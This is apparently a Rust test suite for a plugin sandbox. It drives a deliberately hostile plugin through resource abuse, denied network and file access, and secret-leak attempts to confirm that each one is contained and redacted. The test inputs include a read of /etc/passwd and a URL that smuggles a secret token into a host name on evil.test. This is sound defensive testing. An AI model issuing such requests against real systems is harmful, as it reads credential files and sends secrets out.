//! The hostile-plugin suite: every misbehaviour fails only its own call, with a clear
//! error, within its deadline, while well-behaved calls running at the same time succeed.

use baton::config::Config;
use baton::registry::{CallReport, GrantChange};
use baton::runtime::{CallContext, FailureOrigin};
use baton::store::LimitSettings;
use baton_tests::TestRegistry;
use serde_json::{Value, json};
use std::sync::Arc;
use std::time::{Duration, Instant};

const TIMEOUT_MS: u64 = 1500;
const SECRET: &str = "hunter2-very-secret";

fn registry() -> TestRegistry {
    TestRegistry::with_config(Config {
        allow_unsigned: true,
        limits: LimitSettings {
            memory_mb: Some(32),
            timeout_ms: Some(TIMEOUT_MS),
            max_output_kb: Some(512),
            max_input_kb: Some(64),
            ..Default::default()
        },
        ..Default::default()
    })
}

async fn hostile(t: &TestRegistry, action: &str, input: Value) -> (CallReport, Duration) {
    let started = Instant::now();
    let report = t
        .registry
        .call(
            &"hostile".parse().unwrap(),
            action,
            &input.to_string(),
            &CallContext::default(),
        )
        .await
        .unwrap_or_else(|e| panic!("hostile {action}: {e}"));
    (report, started.elapsed())
}

/// Expected failure code and a phrase the message must contain, per action.
const CASES: &[(&str, &str, &str)] = &[
    ("loop", "deadline_exceeded", "1500 ms deadline"),
    ("sleep", "deadline_exceeded", "1500 ms deadline"),
    ("alloc", "memory_limit", "over its limit of 32 MiB"),
    // Rust keeps its stack in linear memory: overflowing it is an out-of-bounds access
    // unless the wasm call stack overflows first. Either way it is named.
    ("stack-overflow", "trap|stack_overflow", "stack"),
    ("trap", "trap", "unreachable"),
    ("panic", "panic", "hostile panic"),
    (
        "big-output",
        "output_too_large",
        "over its output limit of 524288 bytes",
    ),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_misbehaviour_fails_alone_while_echo_keeps_working() {
    let t = Arc::new(registry());
    t.install("hostile").await;
    t.install("echo").await;

    let mut hostile_calls = Vec::new();
    for &(action, code, phrase) in CASES {
        let t = t.clone();
        hostile_calls.push(tokio::spawn(async move {
            let input = if action == "big-output" {
                json!({"bytes": 600 * 1024})
            } else {
                json!({})
            };
            let (report, elapsed) = hostile(&t, action, input).await;
            let failure = report.result.expect_err(action);
            assert!(
                code.split('|').any(|c| c == failure.code),
                "{action}: {} {}",
                failure.code,
                failure.message
            );
            assert_eq!(failure.origin, FailureOrigin::Sandbox, "{action}");
            assert!(
                failure.message.contains(phrase),
                "{action}: {}",
                failure.message
            );
            assert!(
                failure.message.contains("hostile@0.1.0"),
                "{action}: {}",
                failure.message
            );
            assert!(
                elapsed < Duration::from_millis(TIMEOUT_MS + 1000),
                "{action} took {elapsed:?}"
            );
            elapsed
        }));
    }

    // Meanwhile, a well-behaved plugin answers promptly, again and again.
    let echo = "echo".parse().unwrap();
    let started = Instant::now();
    for i in 0..50 {
        let message = format!("ping {i}");
        let r = t
            .registry
            .call(
                &echo,
                "echo",
                &json!({"message": message}).to_string(),
                &CallContext::default(),
            )
            .await
            .unwrap();
        assert_eq!(r.result.unwrap(), json!({"message": message}));
    }
    let echo_time = started.elapsed();

    let mut slowest = Duration::ZERO;
    for call in hostile_calls {
        slowest = slowest.max(call.await.expect("hostile task does not panic"));
    }
    // Echo did not wait for the looping plugin's deadline.
    assert!(
        echo_time < slowest,
        "echo took {echo_time:?}, hostile calls {slowest:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn ungranted_hosts_files_and_environment_are_out_of_reach() {
    let t = registry();
    t.install("hostile").await;

    let (r, _) = hostile(&t, "http", json!({"url": "http://allowed.test/x"})).await;
    let f = r.result.unwrap_err();
    assert_eq!(f.code, "host_denied");
    assert!(
        f.message
            .contains("plugin hostile@0.1.0 may not reach host allowed.test"),
        "{}",
        f.message
    );
    assert!(
        f.message
            .contains("baton plugin grant hostile --host allowed.test"),
        "{}",
        f.message
    );
    assert_eq!(r.denied.len(), 1);

    let (r, _) = hostile(&t, "http", json!({"url": "http://evil.test/x"})).await;
    let f = r.result.unwrap_err();
    assert_eq!(f.code, "host_denied");
    assert!(f.message.contains("does not request it"), "{}", f.message);

    let (r, _) = hostile(&t, "read-file", json!({"path": "/etc/passwd"})).await;
    let f = r.result.unwrap_err();
    assert_eq!(f.code, "io");
    assert!(!f.message.contains("root:"), "{}", f.message);

    let (r, _) = hostile(&t, "read-env", json!({"name": "PATH"})).await;
    assert_eq!(r.result.unwrap(), json!({"value": null, "all": 0}));
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_never_leave_in_logs_output_or_errors() {
    let t = registry();
    t.install("hostile").await;
    t.registry
        .grant(
            "hostile",
            &GrantChange {
                set_secrets: vec![("token".into(), SECRET.into())],
                ..Default::default()
            },
        )
        .unwrap();

    // A secret smuggled into a refused host name is redacted from the denial too.
    let (r, _) = hostile(
        &t,
        "http",
        json!({"url": format!("http://{SECRET}.evil.test/")}),
    )
    .await;
    let everything = serde_json::to_string(&r).unwrap();
    assert!(
        !everything.contains(SECRET),
        "secret leaked in a denial: {everything}"
    );
    assert!(
        r.denied[0].contains("[redacted secret token]"),
        "{:?}",
        r.denied
    );

    for input in [json!({}), json!({"as_failure": true})] {
        let (r, _) = hostile(&t, "leak-secret", input.clone()).await;
        let everything = serde_json::to_string(&r).unwrap();
        assert!(
            !everything.contains(SECRET),
            "secret leaked for {input}: {everything}"
        );
        assert!(
            everything.contains("[redacted secret token]"),
            "{everything}"
        );
        assert!(r.stdout.contains("[redacted secret token]"));
        assert!(r.stderr.contains("[redacted secret token]"));
        assert!(
            r.logs
                .iter()
                .any(|l| l.message.contains("[redacted secret token]"))
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_flood_of_printing_is_capped_not_fatal() {
    let t = registry();
    t.install("hostile").await;
    let (r, _) = hostile(&t, "print-flood", json!({"bytes": 4 << 20})).await;
    assert_eq!(r.result.unwrap(), json!(4 << 20));
    assert!(r.stdout.len() < 300 * 1024, "kept {} bytes", r.stdout.len());
    assert!(
        r.stdout
            .ends_with("more bytes not kept: output is capped at 256 KiB per stream]")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn input_over_the_limit_is_refused_before_the_plugin_runs() {
    let t = registry();
    t.install("echo").await;
    let message = "z".repeat(100 * 1024);
    let r = t
        .registry
        .call(
            &"echo".parse().unwrap(),
            "echo",
            &json!({ "message": message }).to_string(),
            &CallContext::default(),
        )
        .await
        .unwrap();
    let f = r.result.unwrap_err();
    assert_eq!(f.code, "input_too_large");
    assert!(
        f.message
            .contains("over plugin echo@0.1.0's input limit of 65536 bytes"),
        "{}",
        f.message
    );
    assert!(r.stdout.is_empty() && r.logs.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn every_call_starts_from_a_fresh_instance() {
    let t = registry();
    t.install("hostile").await;
    for _ in 0..3 {
        let (r, _) = hostile(&t, "counter", json!({})).await;
        assert_eq!(
            r.result.unwrap(),
            json!(1),
            "state leaked from an earlier call"
        );
    }
}
